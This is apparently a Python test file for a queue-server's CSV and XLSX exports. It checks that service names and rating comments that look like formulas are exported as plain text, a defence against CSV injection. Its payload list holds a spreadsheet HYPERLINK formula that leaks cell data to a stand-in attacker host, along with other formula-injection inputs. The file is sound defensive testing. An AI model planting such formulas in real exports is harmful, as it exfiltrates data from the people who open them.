"""Exports a spreadsheet opens: names and comments that look like formulas stay text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import openpyxl

from queue_server.stats.exports import FORMULA_START, csv_cell, from_csv_cell
from tests.support import bearer

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点此")', "+1", "-1+1", "@SUM(1+1)", "\t=1"]
API = "/api/v1/halls/erdao"


def looks_like_formula(cell: str) -> bool:
    if not cell.startswith(FORMULA_START):
        return False
    try:
        float(cell)  # a negative number is a number, not a formula
    except ValueError:
        return True
    return False


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def serve_and_rate(client, admin: dict, clerk: dict) -> dict[str, str]:
    """A service per payload, one ticket of each served and rated with the payload as comment; name by code."""
    names = {}
    for i, payload in enumerate(PAYLOADS):
        code = f"FX{i:03d}"
        r = client.post(
            "/api/v1/admin/halls/erdao/services", json={"code": code, "name": payload, "queue": "A"}, headers=admin
        )
        assert r.status_code == 201, r.get_json()
        names[code] = r.get_json()["name"]
    assert client.post(f"{API}/windows/3/open", headers=clerk).status_code == 200
    for i, payload in enumerate(PAYLOADS):
        r = client.post(f"{API}/tickets", json={"service": f"FX{i:03d}", "print": False})
        assert r.status_code == 201, r.get_json()
        ticket, number = r.get_json()["id"], r.get_json()["number"]
        r = client.post(f"{API}/windows/3/call-next", headers=clerk)
        assert r.status_code == 200 and r.get_json()["number"] == number, r.get_json()
        for action in ("start", "finish"):
            assert client.post(f"{API}/windows/3/{action}", headers=clerk).status_code == 200
        r = client.post(f"/api/v1/tickets/{ticket}/evaluation", json={"score": 2, "comment": payload})
        assert r.status_code == 201, r.get_json()
    return names


def test_every_export_shows_formula_like_text_as_text(make_app):
    app = make_app()
    client = app.test_client()
    root, clerk = bearer(client, "root"), bearer(client, "clerk3")
    names = serve_and_rate(client, root, clerk)
    assert set(names.values()) >= {"+1", "-1+1", "@SUM(1+1)", "=1"}, "a tab before a name is not kept"

    r = client.get(f"{API}/ratings/export?format=csv", headers=root)
    assert r.status_code == 200
    ratings = list(csv.DictReader(io.StringIO(r.data.decode("utf-8-sig"))))
    assert sorted(x["comment"] for x in ratings) == sorted("'" + p.strip() for p in PAYLOADS)  # comments are trimmed
    assert sorted(x["service_name"] for x in ratings) == sorted("'" + n for n in names.values())

    r = client.get(f"{API}/stats/export?format=csv", headers=root)
    assert r.status_code == 200
    stats = rows_of(r.data)
    item_names = {row[1]: row[3] for row in stats if row[0] == "by_item" and row[2] == "name"}
    assert {c: item_names[c] for c in names} == {c: "'" + n for c, n in names.items()}

    r = client.get("/api/v1/admin/halls/erdao/services/export", headers=root)
    assert r.status_code == 200
    services = rows_of(r.data)
    exported = {row[0]: row[1] for row in services[1:]}
    assert {c: exported[c] for c in names} == {c: "'" + n for c, n in names.items()}

    for rows in (rows_of(client.get(f"{API}/ratings/export?format=csv", headers=root).data), stats, services):
        assert not [cell for row in rows for cell in row if looks_like_formula(cell)]

    r = client.get(f"{API}/stats/export?format=xlsx", headers=root)
    assert r.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(r.data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    by_item = {row[0]: row[1] for row in book["by_item"].iter_rows(min_row=2, values_only=True)}
    assert {c: by_item[c] for c in names} == names, "the text itself, not a quote or a formula"
    assert all(isinstance(row[2], int) for row in book["by_item"].iter_rows(min_row=2, values_only=True))


def test_the_services_export_imports_back_unchanged(make_app):
    app = make_app()
    client = app.test_client()
    root, clerk = bearer(client, "root"), bearer(client, "clerk3")
    serve_and_rate(client, root, clerk)
    text = client.get("/api/v1/admin/halls/erdao/services/export", headers=root).data.decode("utf-8")
    r = client.post("/api/v1/admin/halls/erdao/services/import", json={"csv": text}, headers=root)
    assert r.status_code == 200, r.get_json()
    preview = r.get_json()
    assert (preview["new"], preview["changed"], preview["errors"]) == ([], [], [])


def test_only_text_is_neutralised():
    assert [csv_cell(v) for v in (-1, -1.5, 0, True, None)] == [-1, -1.5, 0, "true", ""]
    texts = ("-1", "=A1", "@x", "\t=1", "\r=1", "办事")
    assert [csv_cell(v) for v in texts] == ["'-1", "'=A1", "'@x", "'\t=1", "'\r=1", "办事"]
    assert [from_csv_cell(csv_cell(v)) for v in ("=A1", "'quoted", "办事")] == ["=A1", "'quoted", "办事"]
